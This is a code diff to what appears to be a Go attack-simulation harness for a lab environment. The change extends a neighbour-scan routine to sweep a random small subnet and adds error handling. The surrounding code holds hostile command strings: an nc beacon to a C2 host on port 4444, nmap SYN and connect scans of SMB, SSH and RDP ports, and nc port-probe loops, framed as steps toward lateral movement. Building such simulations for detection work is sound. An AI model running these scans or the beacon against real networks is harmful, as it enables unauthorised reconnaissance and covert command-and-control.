@@ -3,6 +3,7 @@ package lab
 import (
 	"context"
 	"fmt"
+	"net/netip"
 	"strings"
 	"time"
 
@@ -49,7 +50,9 @@ func infiltrate(ctx context.Context, r *Run, lateral, out string) error {
 	if r.chance(0.6) { // the implant's own channel
 		go in.Shell(ctx, "while :; do echo alive; sleep %d; done | nc %s 4444", r.between(2, 5), c2)
 	}
-	r.look(ctx, in)
+	if err := r.look(ctx, in); err != nil {
+		return err
+	}
 	pause(ctx, r.seconds(1, 4))
 	if err := r.move(ctx, in, lateral); err != nil {
 		return err
@@ -76,14 +79,22 @@ func infiltrate(ctx context.Context, r *Run, lateral, out string) error {
 	return nil
 }
 
-// look is the scan of the neighbours.
-func (r *Run) look(ctx context.Context, in *Host) {
-	low, ports := r.between(1, 8), r.pick("22,445", "22,80,445,3389", "21,22,139,445", "445")
+// look is the scan of the neighbours: those known by name, or a part of the network.
+func (r *Run) look(ctx context.Context, in *Host) error {
+	where := r.neighbours()
+	if r.chance(0.6) {
+		if _, err := r.crowd(ctx); err != nil {
+			return err
+		}
+		where = netip.PrefixFrom(r.At(128), r.between(26, 28)).String()
+	}
+	ports := r.pick("22,445", "22,80,445,3389", "21,22,139,445", "445,22,135")
 	r.play(ctx, in, "%s", r.pick(
-		fmt.Sprintf("nmap -n -Pn -sT -T4 -p %s %s", ports, r.neighbours()),
-		fmt.Sprintf("nmap -n -sS -T4 -p %s %s", ports, r.neighbours()),
-		fmt.Sprintf("nmap -n -Pn -sT -T4 --top-ports %d %s %s", low*10, r.Files.Addr, r.Shop.Addr),
+		fmt.Sprintf("nmap -n -Pn -sT -T4 -p %s %s", ports, where),
+		fmt.Sprintf("nmap -n -sS -T4 -p %s %s", ports, where),
+		fmt.Sprintf("nmap -n -Pn -sT -T4 --top-ports %d %s %s", r.between(2, 20)*10, r.Files.Addr, r.Shop.Addr),
 		fmt.Sprintf("for a in %s; do nc -nvz -w 1 $a 22; nc -nvz -w 1 $a 445; done", r.neighbours())))
+	return nil
 }
 
 func (r *Run) neighbours() string {
